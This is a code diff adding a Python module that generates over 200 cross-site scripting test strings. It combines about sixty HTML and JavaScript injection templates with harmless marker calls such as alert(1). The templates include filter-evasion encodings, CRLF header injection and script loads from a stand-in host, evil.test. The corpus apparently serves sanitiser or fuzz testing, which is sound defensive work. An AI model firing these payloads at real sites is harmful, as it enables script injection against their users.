@@ -1,0 +1,74 @@
+"""Strings that would be run, where a page took them for more than text."""
+
+from __future__ import annotations
+
+from itertools import product
+
+__all__ = ["STRINGS"]
+
+_CALLS = "window.struck=1", "alert(1)", "confirm`1`", "top['al'+'ert'](1)"
+_TAGS = (
+    "<script>{}</script>",
+    "<ScRiPt >{}</sCrIpT >",
+    "<script src=//evil.test/x.js></script>{}",
+    "<script\n>{}</script>",
+    "<<script>{}//<</script>",
+    "<script type=module>{}</script>",
+    "<img src=x onerror={}>",
+    "<img/src/onerror={}>",
+    '<img src="x" onerror="{}">',
+    "<img src=`x`onerror={}>",
+    "<svg onload={}>",
+    "<svg/onload={}//",
+    "<svg><script>{}</script></svg>",
+    "<svg><animate onbegin={} attributeName=x dur=1s>",
+    "<body onload={}>",
+    "<body onpageshow={}>",
+    "<iframe src=javascript:{}>",
+    "<iframe srcdoc='<script>{}</script>'>",
+    "<a href=javascript:{}>x</a>",
+    "<a href='java\tscript:{}'>x</a>",
+    "<form action=javascript:{}><input type=submit autofocus onfocus={}>",
+    "<input autofocus onfocus={}>",
+    "<select autofocus onfocus={}>",
+    "<textarea autofocus onfocus={}>",
+    "<details open ontoggle={}>",
+    "<video src=x onerror={}>",
+    "<audio src onloadstart={}>",
+    "<object data=javascript:{}>",
+    "<embed src=javascript:{}>",
+    "<marquee onstart={}>x</marquee>",
+    "<math href=javascript:{}>x</math>",
+    "<style>@import 'javascript:{}';</style>",
+    "<div style='width:expression({})'>",
+    "<base href=//evil.test/>{}",
+    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+    "<link rel=stylesheet href=//evil.test/{}>",
+    "<xss onpointerenter={} contenteditable>",
+    "<template><script>{}</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror={}>'>",
+    "<!--><img src=x onerror={}>-->",
+    "<![CDATA[><script>{}</script>]]>",
+    '"><script>{}</script>',
+    "'><img src=x onerror={}>",
+    '" onfocus={} autofocus x="',
+    "' onmouseover={} '",
+    "</title><script>{}</script>",
+    "</textarea><img src=x onerror={}>",
+    "</option></select><img src=x onerror={}>",
+    "</pre></table></main><script>{}</script>",
+    "javascript:{}//",
+    "data:text/html,<script>{}</script>",
+    "{{{{ {} }}}}{{% set x = 1 %}}",
+    "${{{}}}#{{{}}}<%= {} %>",
+    "&lt;script&gt;{}&lt;/script&gt;",
+    "&#60;img src=x onerror={}&#62;",
+    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
+    "%3Cscript%3E{}%3C/script%3E",
+    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{}",
+    "\N{RIGHT-TO-LEFT OVERRIDE}<script>{}</script>",
+    "x\r\nSet-Cookie: a=b\r\n\r\n<script>{}</script>",
+)
+
+#: More than 200 of them.
+STRINGS = tuple(tag.format(*[call] * 3) for tag, call in product(_TAGS, _CALLS))
